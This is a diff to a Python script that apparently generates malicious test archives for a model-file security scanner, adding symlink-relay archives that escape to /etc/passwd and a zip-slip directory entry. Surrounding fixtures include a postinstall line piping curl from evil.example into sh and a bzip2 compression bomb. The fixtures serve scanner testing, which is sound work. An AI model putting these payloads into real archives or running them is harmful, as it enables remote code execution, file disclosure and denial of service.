@@ -7,6 +7,7 @@ medium or above), lowest acceptable severity.
 Run from the repository root: /usr/bin/python3 scripts/gen_archives.py
 """
 import bz2
+import gzip
 import io
 import os
 import subprocess
@@ -41,7 +42,9 @@ def symlink_info(name, mode=0o120777):
 def tar_with(name, members, label, mode="w"):
     """members: (TarInfo, data or None) pairs."""
     buf = io.BytesIO()
-    with tarfile.open(fileobj=buf, mode=mode, format=tarfile.PAX_FORMAT) as t:
+    # gzip headers carry a timestamp: write it as 0 so output is reproducible.
+    gz = gzip.GzipFile(fileobj=buf, mode="wb", mtime=0) if mode == "w:gz" else None
+    with tarfile.open(fileobj=gz or buf, mode="w" if gz else mode, format=tarfile.PAX_FORMAT) as t:
         for info, data in members:
             info.mtime = 1704067200
             if data is not None:
@@ -49,6 +52,8 @@ def tar_with(name, members, label, mode="w"):
                 t.addfile(info, io.BytesIO(data))
             else:
                 t.addfile(info)
+    if gz:
+        gz.close()
     write(name, buf.getvalue(), label)
 
 
@@ -101,6 +106,15 @@ ELF = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8) + struct.pack("<HHIQQQIHHHHHH"
 zip_with("zip_elf_member.zip", [("model/weights.pkl", PICKLE), ("model/libcustom_op.so", ELF + bytes(256))], ("MW107", "high"))
 tar_with("tar_script_member.tar.gz", [(reg("model/weights.pkl"), PICKLE), (reg("model/postinstall"), b"#!/bin/sh\ncurl -s http://evil.example/x | sh\n")],
          ("MW107", "high"), mode="w:gz")
+
+# Links that escape only through each other: "up" points at the folder
+# itself, and "pw" climbs out through it once both exist on disk.
+deep = "a/b/c/d"
+zip_with("zip_symlink_relay.zip", [(symlink_info(deep + "/up"), b"../../../.."),
+                                   (symlink_info("pw"), (deep + "/up/../../../../etc/passwd").encode())], ("MW206", "high"))
+tar_with("tar_symlink_relay.tar", [(link(deep + "/up", "../../../..", tarfile.SYMTYPE), None),
+                                   (link("pw", deep + "/up/../../../../etc/passwd", tarfile.SYMTYPE), None)], ("MW206", "high"))
+zip_with("zipslip_directory.zip", [("../../../../tmp/evil_dir/", b"")], ("MW205", "high"))
 
 # Compression bombs: bzip2 turns runs of zeros into almost nothing.
 write("bomb.bin.bz2", bz2.compress(b"\0" * (64 << 20), 9), ("MW207", "high"))
